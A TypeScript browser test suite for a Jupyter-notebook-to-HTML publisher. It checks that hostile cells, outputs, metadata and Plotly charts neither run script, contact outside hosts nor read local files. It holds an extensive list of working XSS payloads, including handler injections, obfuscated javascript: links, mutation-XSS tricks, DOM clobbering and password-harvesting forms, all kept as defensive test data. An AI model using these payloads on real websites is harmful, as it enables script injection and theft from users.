// A notebook that somebody else wrote, as a page: nothing of it runs, nobody is asked for anything, and what is harmless
// stays. Opened from the disk in a browser, with a server beside it that counts who asks.
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import test, { after, before, describe } from 'node:test';
import { pathToFileURL } from 'node:url';
import { isDeepStrictEqual } from 'node:util';
import { writeHtml } from 'descent-lab';
import { type Figure, type JsonObject } from '../lib/src/figures';
import type { Browser, Page } from 'playwright-core';
import type { Cell, MimeBundle, Notebook } from '../publish/src/notebooks/notebook';
import { notebookHtml } from '../publish/src/page/cells';
import { markdownRenderer } from '../publish/src/page/markdown';
import { page as pageHtml } from '../publish/src/page/page';
import { ownRoot, projectAt } from '../publish/src/notebooks/project';
import { copyPlotly, notebookPage } from '../publish/src/notebooks/publish';
import { readNotebooks } from '../publish/src/site/notebook-pages';
import { sitePage } from '../publish/src/site/shell';
import { launchBrowser, withoutBrowser } from './support/browser';

const RUN = 'top.pwned=1';
const runs = `<script>${RUN}</script>`;
const dataPage = `data:text/html;base64,${Buffer.from(`<script>parent.${RUN}</script>`).toString('base64')}`;

/** What attackers write, HOST standing for their server: each alone in a cell, and alone in an output. */
const hostile: Record<string, string> = {
  'a script': runs,
  'a script from elsewhere': '<script src="HOST/x.js"></script>',
  'a script within a broken tag': `<scr<script>ipt>${RUN}</scr</script>ipt>${runs}`,
  'a script in odd letters': `<ScRiPt\n>${RUN}</sCrIpT >`,
  'a frame with a page of its own': `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  'a frame with an escaped page': `<iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"></iframe>`,
  'a frame that is told to run': `<iframe src="javascript:parent.${RUN}"></iframe>`,
  'a frame from elsewhere': '<iframe src="HOST/frame"></iframe><frameset><frame src="HOST/frame2"></frameset>',
  'an image that fails': `<img src="missing.png" onerror="${RUN}">`,
  'an image without blanks': `<img/src="x:x"/onerror=${RUN}>`,
  'an image behind a quote': `<img """><img src=x: onerror="${RUN}">`,
  'an SVG that loads': `<svg onload="${RUN}"></svg><svg/onload=${RUN}>`,
  'a script in an SVG': `<svg><script>${RUN}</script></svg>`,
  'an SVG that animates a link': `<svg><a><animate attributeName=href values="javascript:${RUN}" /><text y="20">click</text></a></svg>`,
  'an SVG that uses another': '<svg><use href="HOST/x.svg#x"></use><image href="HOST/y.png"></image></svg>',
  'an SVG that sets a handler': `<svg><set attributeName="onmouseover" to="${RUN}" begin="0s"></set></svg>`,
  'an SVG with a page in it': `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  'a style that changes how an SVG is read': `<svg><style><img src=x: onerror="${RUN}"></style></svg>`,
  'MathML that changes how it is read':
    '<math><mtext><table><mglyph><style><!--</style>' +
    `<img title="--&gt;&lt;img src=x: onerror=${RUN}&gt;"></table></mtext></math>`,
  'MathML with a link': `<math href="javascript:${RUN}">click</math><math><maction xlink:href="javascript:${RUN}">click</maction></math>`,
  'a title that changes how it is read': `<noscript><p title="</noscript><img src=x: onerror=${RUN}>"></p></noscript>`,
  'text areas that change how it is read': `<textarea></textarea><img src=x: onerror="${RUN}"><xmp><img src=x: onerror="${RUN}"></xmp>`,
  'a comment that ends early': `<!--><img src=x: onerror="${RUN}">--><!-- --!><img src=x: onerror="${RUN}"> -->`,
  'a CDATA section': `<![CDATA[><img src=x: onerror="${RUN}">]]>`,
  'a template': `<template><img src=x: onerror="${RUN}"></template><template shadowrootmode="open">${runs}</template>`,
  'a select': `<select><option>&lt;/option&gt;<style></option></select><img src=x: onerror="${RUN}"></style></select>`,
  'a link that runs': `<a href="javascript:${RUN}">click</a>`,
  'a link with entities': `<a href="&#106;&#x61;vascript&colon;${RUN}">click</a>`,
  'a link with entities that are not ended': `<a href="&#0000106&#0000097vascript:${RUN}">click</a>`,
  'a link with blanks': `<a href=" &#14; java&#9;scr&#10;ipt&Tab;:${RUN}">click</a>`,
  'a link in odd letters': `<a href="JaVaScRiPt:${RUN}">click</a><a href="vbscript:${RUN}">click</a>`,
  'a link to a page in itself': `<a href="${dataPage}">click</a><a href="data:text/html,${runs}">click</a>`,
  'a link of Markdown': `[click](javascript:${RUN}) [click](&#106;avascript:${RUN}) <javascript:${RUN}> [x]: ${dataPage}\n\n[x]`,
  'a link that tells another host': '<a href="#x" ping="HOST/ping">click</a>',
  'a link without a protocol':
    '<a href="//host.example/x">click</a><img src="//host.example/x.png"><img src="/&#9;/host.example/y">',
  'a file of this machine': '<img src="file:///etc/hostname"><a href="file:///etc/hostname">click</a>',
  'an area': `<img usemap="#m" src="x:"><map name="m"><area href="javascript:${RUN}" coords="0,0,99,99">click</map>`,
  'a form':
    `<form action="javascript:${RUN}"><input type="submit" value="click">` +
    `<button formaction="javascript:${RUN}">click</button></form>`,
  'a form for what the reader types': '<form action="HOST/form"><input name="password"><button>click</button></form>',
  'a field that takes the focus': `<input autofocus onfocus="${RUN}"><select autofocus onfocus="${RUN}"></select>`,
  'an element that takes the focus': `<p tabindex="1" autofocus onfocus="${RUN}">x</p><p contenteditable autofocus onfocus="${RUN}">y</p>`,
  'something that opens': `<details open ontoggle="${RUN}"><summary>x</summary>y</details><dialog open onclose="${RUN}"></dialog>`,
  'something that plays':
    `<video poster="HOST/poster"><source src="HOST/v" onerror="${RUN}"></video>` +
    `<audio src="HOST/a" onerror="${RUN}"></audio>`,
  'something that moves':
    `<marquee onstart="${RUN}">x</marquee><style>@keyframes x{}</style>` +
    `<p style="animation-name:x" onanimationstart="${RUN}">y</p>`,
  'an object': `<object data="javascript:${RUN}"></object><embed src="HOST/embed"><object data="${dataPage}"></object>`,
  'an old plug-in': `<applet code="HOST/x"></applet><layer src="HOST/y"></layer><bgsound src="javascript:${RUN}">`,
  'a body':
    `<body onload="${RUN}" background="HOST/back">` +
    '<table background="HOST/table"><tr><td background="HOST/cell">x</td></tr></table>',
  'another base': '<base href="HOST/">',
  'another page after a while': '<meta http-equiv="refresh" content="0;url=HOST/refresh">',
  'a style sheet':
    '<link rel="stylesheet" href="HOST/style"><link rel="prefetch" href="HOST/early">' +
    '<style>@import "HOST/import";</style>',
  'a style':
    '<p style="background:url(HOST/css)">x</p><p style="list-style:u\\72l(\'HOST/list\');display:list-item">y</p>',
  'a style that lies over the page':
    '<a href="https://host.example" style="position:fixed;inset:0;z-index:9;opacity:0">click</a>',
  'an image from elsewhere':
    '<img src="HOST/image"><img srcset="HOST/set 1x"><picture><source srcset="HOST/source"><img></picture>',
  'an image of Markdown from elsewhere': '![x](HOST/markdown)',
  'what belongs to the page':
    '</p></div></main></body></html><header><input id="fold"></header>' +
    '<main id="content" data-plotly="HOST/m.js"></main>',
  'a chart that is none':
    '<figure class="chart" data-source="HOST/data.js" data-name="x"><div class="plot"></div></figure>',
  "names that hide the page's own":
    '<img name="getElementById"><form name="head"><input name="append"></form><a id="figures"></a>' +
    '<img name="currentScript" src="x:"><iframe name="Plotly"></iframe>',
  'a quote that ends an attribute': `<img alt='"><img src=x: onerror=${RUN}>' src="x:"><p title="$x$ &quot; onmouseover=${RUN} ">x</p>`,
  'a formula in an attribute': `<div title="\n\n$\\text{"><img src=x: onerror=${RUN}>}$\n\n">x</div>`,
  'a formula that links': `$\\href{javascript:${RUN}}{click}$ $\\htmlData{x=1}{y}$ $\\text{<img src=x: onerror=${RUN}>}$`,
  'a place for our own HTML':
    '<our-html i="0"></our-html><div title="<our-html i=\'0\'></our-html>">x</div><our-html i="99"></our-html>',
  'code that ends early': `\`\`\`"><script>${RUN}</script>\n<pre><script>${RUN}</script>\n\`\`\``,
  'all that follows as text': `<plaintext>${runs}`,
};

/** Outputs of other kinds. */
const bundles: Record<string, MimeBundle> = {
  'an SVG': {
    'image/svg+xml': `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}">${runs}</svg>`,
    'text/plain': runs,
  },
  'a program': { 'application/javascript': RUN, 'text/plain': 'x' },
  Markdown: { 'text/markdown': runs, 'text/plain': 'x' },
  LaTeX: { 'text/latex': `$\\href{javascript:${RUN}}{x}$`, 'text/plain': 'x' },
  'a widget': { 'application/vnd.jupyter.widget-view+json': { model_id: runs }, 'text/plain': runs },
  'an image that is none': { 'image/png': `x"onerror="${RUN}`, 'text/plain': `"><img src=x: onerror="${RUN}">` },
};

const markdown = (source: string): Cell => ({ cell_type: 'markdown', metadata: {}, source });
const code = (...outputs: Cell['outputs'] & object): Cell => ({
  cell_type: 'code',
  metadata: {},
  execution_count: 1,
  source: `const x = '${runs}';`,
  outputs,
});
const shows = (data: MimeBundle): Cell => code({ output_type: 'display_data', data, metadata: { [runs]: runs } });
const notebook = (cells: Cell[]): Notebook => ({
  cells,
  nbformat: 4,
  nbformat_minor: 5,
  metadata: {
    title: runs,
    kernelspec: { display_name: runs, language: runs },
    language_info: { name: runs },
    widgets: { 'application/vnd.jupyter.widget-state+json': { state: runs } },
  },
});

/** A chart whose every text is hostile, as it stands in a notebook. */
function hostileChart(host: string): MimeBundle {
  const text =
    `<a href="javascript:${RUN}">click</a> <a href="java\nscript:${RUN}">click</a> <img src=x: onerror="${RUN}">` +
    `<b style="background:url(${host}/b)" onmouseover="${RUN}">b</b><svg onload=${RUN}>${runs}`;
  const title = { text };
  return {
    'text/plain': `"><img src=x: onerror="${RUN}">`,
    'application/vnd.plotly.v1+json': {
      data: [
        {
          type: 'scatter',
          x: [1, 2, 3],
          y: [1, 2, 3],
          name: text,
          text: [text, text, text],
          mode: 'markers+text',
          hovertemplate: `${text}%{y}<extra>${text}</extra>`,
          marker: { size: 40 },
        },
        { type: 'bar', x: ['a', text], y: [1, 2], hovertext: text },
      ],
      layout: {
        title,
        meta: { name: '"><img src=x: onerror=top.pwned=1>' },
        xaxis: { title, ticksuffix: text },
        showlegend: true,
        annotations: [{ x: 1, y: 1, text, hovertext: text }],
        images: [
          { source: `${host}/image`, x: 0, y: 0, sizex: 1, sizey: 1 },
          { source: `javascript:${RUN}`, x: 0, y: 0 },
        ],
        updatemenus: [{ type: 'buttons', buttons: [{ label: text, method: 'relayout', args: [{ title }] }] }],
        sliders: [{ currentvalue: { prefix: text }, steps: [{ label: text, method: 'skip', args: [] }] }],
      },
      config: { showLink: true, linkText: text, plotlyServerURL: host, showSendToCloud: true, topojsonURL: host },
    },
  };
}

/** What runs is here, and clicks, once a page stands in a browser. */
async function provoke(page: Page): Promise<void> {
  await page.evaluate(() => {
    for (const element of Array.from(document.querySelectorAll('main *'))) {
      const options = { bubbles: true, cancelable: true };
      for (const event of ['mouseover', 'mouseenter', 'focus', 'toggle'])
        element.dispatchEvent(new Event(event, options));
      if (/^https?:/.test(element.getAttribute('href') ?? '')) continue; // leads elsewhere, as it says
      element.dispatchEvent(new MouseEvent('click', options));
    }
  });
  await page.mouse.click(300, 300);
  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 100))));
}

describe('a notebook that somebody else wrote', () => {
  const output = join(ownRoot, 'tests', 'output');
  mkdirSync(output, { recursive: true });
  const project = projectAt(mkdtempSync(join(output, 'foreign-')));
  const asked: string[] = [];
  const server = createServer(({ url }, response) => {
    asked.push(url!);
    response.end();
  });
  let browser: Browser | undefined;
  let skip: string | undefined;
  let host: string;

  before(async () => {
    await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve));
    host = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    copyPlotly(project);
    skip = await withoutBrowser();
    if (!skip) browser = await launchBrowser();
  });
  after(async () => {
    await browser?.close();
    server.close();
    server.closeAllConnections();
    rmSync(project.root, { recursive: true, force: true });
  });

  /** Opens a page from the disk, provokes it, and returns what it did. `guarded`: with its own policy in force. */
  async function open(
    html: string,
    guarded: boolean,
    look: (page: Page) => Promise<unknown> = () => Promise.resolve(),
  ) {
    const file = join(project.figures, 'foreign.html');
    writeFileSync(file, html);
    const context = await browser!.newContext({ bypassCSP: !guarded, viewport: { width: 900, height: 800 } });
    const page = await context.newPage();
    const files: string[] = [];
    page.on('request', (request) => files.push(request.url()));
    asked.length = 0;
    const late = new Promise<never>((_, reject) => {
      setTimeout(() => reject(new Error('the page hangs')), 30_000).unref();
    });
    const act = async (): Promise<boolean> => {
      await page.goto(pathToFileURL(file).href);
      await look(page);
      await provoke(page);
      return page.evaluate(() => 'pwned' in window);
    };
    try {
      const ran = await Promise.race([act(), late]);
      const own = pathToFileURL(project.figures).href;
      return {
        ran,
        asked: [...asked],
        stayed: page.url().startsWith(pathToFileURL(file).href),
        elsewhere: files.filter((url) => url.startsWith('file:') && !url.startsWith(own)),
      };
    } finally {
      void context.close().catch(() => undefined); // That of a page that hangs does not end.
    }
  }
  const nothing = { ran: false, asked: [], stayed: true, elsewhere: [] };

  test('hostile HTML in a cell, and in an output, does nothing, even where no policy guards the page', async (t) => {
    if (skip) return t.skip(skip);
    /** What these do in one page; a heading in front of each shows that none swallows what follows. */
    const tried = async (names: string[]): Promise<object> => {
      const page = notebookPage(
        notebook(
          [...names, 'the end'].flatMap((name) => {
            const html = (hostile[name] ?? '').replaceAll('HOST', host);
            return [markdown(`# ${name}`), markdown(html), shows({ 'text/html': html })];
          }),
        ),
      );
      let headings = 0;
      const did = await open(page, false, async (opened) => {
        headings = await opened.locator('body > main#content > h1').count();
      }).catch(({ message }: Error) => ({ message }));
      return { ...did, headings };
    };
    const fine = (names: string[]): object => ({ ...nothing, headings: names.length + 1 });
    const names = Object.keys(hostile);
    if (isDeepStrictEqual(await tried(names), fine(names))) return;
    await browser!.close();
    browser = await launchBrowser(); // All together can end it.
    const wrong: string[] = [];
    for (const name of names) {
      const did = await tried([name]);
      if (!isDeepStrictEqual(did, fine([name]))) wrong.push(`${name}: ${JSON.stringify(did)}`);
    }
    assert.deepEqual(wrong, []);
    assert.fail('only all together they do something');
  });

  test('nor do outputs of other kinds, tracebacks, attachments and metadata', async (t) => {
    if (skip) return t.skip(skip);
    const attachments = {
      'a.png': { 'image/png': `x) <img src=x: onerror="${RUN}">` },
      'b.png': { 'text/html"': runs },
    };
    const page = notebookPage(
      notebook([
        markdown(`# ${runs} <b title="${RUN}">x</b>`),
        ...Object.values(bundles).map(shows),
        code(
          {
            output_type: 'error',
            ename: runs,
            evalue: `\x1b[31m${runs}\x1b]8;;javascript:${RUN}\x07`,
            traceback: [runs],
          },
          { output_type: 'stream', name: 'stdout', text: [runs, `\x1b[1m<img src=x: onerror="${RUN}">`] },
        ),
        { ...markdown('![x](attachment:a.png) ![x](attachment:b.png)'), attachments },
        { cell_type: 'raw', metadata: { format: 'text/html' }, source: runs },
      ]),
    );
    assert.deepEqual(await open(page, false), nothing);
  });

  test('a chart draws its texts and does nothing else', async (t) => {
    if (skip) return t.skip(skip);
    const page = notebookPage(notebook([shows(hostileChart(host))]));
    const hover = async (opened: Page): Promise<void> => {
      await opened.locator('figure[data-live] .main-svg').first().waitFor();
      for (const mark of await opened.locator('.point, .updatemenu-button, .legendtoggle, .annotation').all()) {
        await mark.hover({ force: true, timeout: 1000 }).catch(() => undefined); // some lie outside
      }
      await opened.evaluate(() => {
        document.querySelectorAll('svg a').forEach((link) => link.dispatchEvent(new MouseEvent('click')));
      });
    };
    assert.deepEqual(await open(page, true, hover), nothing);
  });

  test("the page's policy stops what would come in past that", async (t) => {
    if (skip) return t.skip(skip);
    for (const name of [
      'a script',
      'a script from elsewhere',
      'a frame with a page of its own',
      'an image that fails',
      'an SVG that loads',
      'a link that runs',
      'an image from elsewhere',
      'a style sheet',
      'a form',
    ]) {
      const parts = { title: 'x', header: '', html: hostile[name]!.replaceAll('HOST', host), plotly: 'plotly.js' };
      for (const [kind, html] of [
        ['alone', pageHtml(parts)],
        ['in the site', sitePage('index.html', parts)],
      ]) {
        assert.deepEqual(await open(html!, true), nothing, `${name}, ${kind}`);
      }
    }
  });

  test('what the library writes as a page runs its charts and nothing of its texts', async (t) => {
    if (skip) return t.skip(skip);
    const evil = `</title></script>${runs}<img src=x: onerror="${RUN}">" onload="${RUN}" '`;
    const { 'application/vnd.plotly.v1+json': chart } = hostileChart(host);
    const { data, layout } = chart as { data: JsonObject[]; layout: JsonObject };
    const surface: JsonObject = {
      type: 'surface',
      z: [
        [1, 2],
        [3, 4],
      ],
    }; // WebGL, whose programs Plotly makes on the way
    const figures: Figure[] = [
      { name: evil, description: evil, data, layout },
      { name: 'surface', description: evil, data: [surface], layout: {} },
    ];
    const file = join(project.figures, 'library.html');
    writeHtml(file, figures, { title: evil, intro: evil });
    let drawn = 0;
    const look = async (page: Page): Promise<void> => {
      await page.locator('.js-plotly-plot .main-svg').nth(1).waitFor();
      await page.locator('.gl-container canvas').first().waitFor();
      drawn = await page.locator('.js-plotly-plot').count();
    };
    assert.deepEqual(await open(readFileSync(file, 'utf8'), true, look), nothing);
    assert.equal(drawn, 2);
  });

  test("a chart's name, which is a file in the site, is refused unless it is in kebab case", async () => {
    const chart = hostileChart('');
    writeFileSync(join(project.figures, 'x'), '');
    mkdirSync(project.notebooks, { recursive: true });
    for (const name of ['../../x', '"><script>', '__proto__', undefined]) {
      (chart['application/vnd.plotly.v1+json'] as { layout: JsonObject }).layout.meta =
        name === undefined ? {} : { name };
      writeFileSync(join(project.notebooks, '01-foreign.ipynb'), JSON.stringify(notebook([shows(chart)])));
      const readme = {
        intro: '',
        start: '',
        library: '',
        notebooks: new Map<string, { title: string; text: string }>(),
      };
      await assert.rejects(
        readNotebooks(
          project,
          readme,
          () => undefined,
          () => undefined,
        ),
        /notebooks\/01-foreign\.ipynb, cell \[1\]: shows a chart without a name in kebab case/,
      );
    }
  });
});

test('what is harmless stays', () => {
  const { html } = notebookHtml(notebook([markdown('$x$')]));
  const formula = html.trim().replace(/^<p>|<\/p>$/g, '');
  const picture = 'data:image/png;base64,iVBORw0KGgo=';
  const stays: Record<string, string> = {
    '<details open>\n<summary>More</summary>\n\n**bold** and $x$\n\n</details>': `<details open>\n<summary>More</summary>\n<p><strong>bold</strong> and ${formula}</p>\n</details>`,
    '<a id="there"></a>[go](#there)': '<p><a id="there"></a><a href="#there">go</a></p>',
    '[out](https://example.org/?a=1&b=2#c) [file](02.html) <mailto:a@example.org>':
      '<p><a href="https://example.org/?a=1&amp;b=2#c">out</a> <a href="02.html">file</a> ' +
      '<a href="mailto:a@example.org">mailto:a@example.org</a></p>',
    [`![a "b"](${picture})`]: `<p><img src="${picture}" alt="a &quot;b&quot;" /></p>`,
    '<img src="plot.png" width="300" alt="">': '<img src="plot.png" width="300" alt="" />',
    'H<sub>2</sub>O, x<sup>2</sup>, <kbd>Esc</kbd>, <u>u</u>, <mark>m</mark>, a<br>b':
      '<p>H<sub>2</sub>O, x<sup>2</sup>, <kbd>Esc</kbd>, <u>u</u>, <mark>m</mark>, a<br />b</p>',
    '<p align="center" style="text-align:center; color:#c00">x</p>':
      '<p align="center" style="text-align:center;color:#c00">x</p>',
    '|a|b|\n|:-|-:|\n|1|2|':
      '<table>\n<thead>\n<tr>\n<th style="text-align:left">a</th>\n' +
      '<th style="text-align:right">b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td style="text-align:left">1</td>\n<td style="text-align:right">2</td>\n</tr>\n</tbody>\n</table>',
    '3. three\n4. four': '<ol start="3">\n<li>three</li>\n<li>four</li>\n</ol>',
    '```ts\nconst x = a < b;\n```':
      '<pre><code class="language-ts"><span class="hljs-keyword">const</span> x = a &lt; b;\n</code></pre>',
    '`<b>` & a < b > c "d"': '<p><code>&lt;b&gt;</code> &amp; a &lt; b &gt; c "d"</p>',
    '## A & B': '<h2 id="a-b">A &amp; B</h2>',
    'a<!-- a note -->b': '<p>ab</p>',
  };
  for (const [text, expected] of Object.entries(stays))
    assert.equal(markdownRenderer().render(text).trim(), expected, text);
  const table =
    '<table border="1"><thead><tr><th></th><th>a</th></tr></thead>' +
    '<tbody><tr><th>0</th><td colspan="2">1.5</td></tr></tbody></table>';
  assert.match(
    notebookHtml(notebook([shows({ 'text/html': `<style scoped>td {}</style><div>${table}</div>` })])).html,
    new RegExp(`<div class="output"><div>${table}</div></div>`),
  );
});
